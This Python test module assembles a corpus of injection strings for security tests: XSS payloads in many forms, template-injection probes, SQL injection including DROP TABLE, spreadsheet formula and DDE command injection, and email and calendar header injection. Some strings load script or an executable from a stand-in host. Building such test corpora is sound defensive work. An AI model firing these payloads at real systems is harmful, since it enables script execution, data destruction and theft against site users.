"""Words with which somebody may try to break a page, an email, a file or a calendar: what the tests type everywhere.

Written for these tests, by what each tries to get out of: text, an attribute, a script, an address, a style, Markdown,
a template, a spreadsheet's cell, a calendar's line, an email's head. Each is unlike every other.
"""

from __future__ import annotations

from itertools import product

_RUNS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(name)")
_ESCAPES = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
)
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt x>{run}</sCrIpT >",
    "<script/src=//evil.example/x.js></script>",
    "<img src=x onerror={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onpageshow={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}>",
    "<marquee onstart={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=data:text/html,<script>{run}</script>>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>x</a>",
    "<a href=' \tjavascript:{run}'>x</a>",
    "<a href='JaVaScRiPt:{run}'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<x-evil tabindex=1 onfocus={run} autofocus>x</x-evil>",
    "<b hx-get=/people/me/ hx-trigger=load>x</b>",
    "<p data-module=govuk-button onclick={run}>x</p>",
)
_ATTRIBUTES = (
    '" onmouseover="{run}',
    "' onfocus='{run}' autofocus '",
    '" autofocus onfocus={run} x="',
    "x onclick={run} y",
    '" style="background:url(//evil.example)',
    '" srcdoc="<script>{run}</script>',
    '" formaction="javascript:{run}',
    '"/><x-evil/>',
)
_ADDRESSES = (
    "javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "\\\\evil.example\\x",
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '![x](x"onerror="alert(1))',
    "![x](//evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '[x](<javascript:alert(1)> "t" onclick=alert(1))',
    "# <x-evil>",
)
_TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% include 'ui/layout.jinja' %}",
    "{{ request.user.password }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "%(name)s %s %d %",
    "{0.__class__}",
    "{title!r}",
)
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;x-evil&amp;gt;",
    "&#60;x-evil&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001
    "‹x-evil›",
    "<ſcript>alert(1)</ſcript>",
    "<\N{LATIN SMALL LETTER DOTLESS I}mg src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cx-evil\\x3e",
)
_LINES = (
    "x\r\nBcc: everybody@evil.example",
    "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "x\r\nATTACH:https://evil.example/x.exe",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:evil",
    "x\\nDTSTART:20300101T000000Z",
    "x;VALUE=URI:javascript:alert(1)",
)
_SQL = (
    "'; DROP TABLE themes_text; --",
    '" OR 1=1 --',
    "%' AND password LIKE 'a%",
    "1); DELETE FROM people_person; --",
)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠x",
    "+44 1332 000000",
]


def _all() -> list[str]:
    made = [each.format(run=run) for each in _ELEMENTS for run in _RUNS if "{run}" in each]
    made += [each for each in _ELEMENTS if "{run}" not in each]
    made += [each.format(run=run) for each, run in product(_ATTRIBUTES, _RUNS)]
    made += [f"{escape}<script>alert(2)</script>" for escape in _ESCAPES]
    made += [f"{escape}<x-evil>" for escape in _ESCAPES]
    made += [f"{escape}<img src=x onerror=alert(3)>" for escape in _ESCAPES]
    made += [*_ADDRESSES, *_MARKDOWN, *_TEMPLATES, *_ENTITIES, *_LINES, *_SQL, *FORMULAS]
    return list(dict.fromkeys(made))


CORPUS = _all()
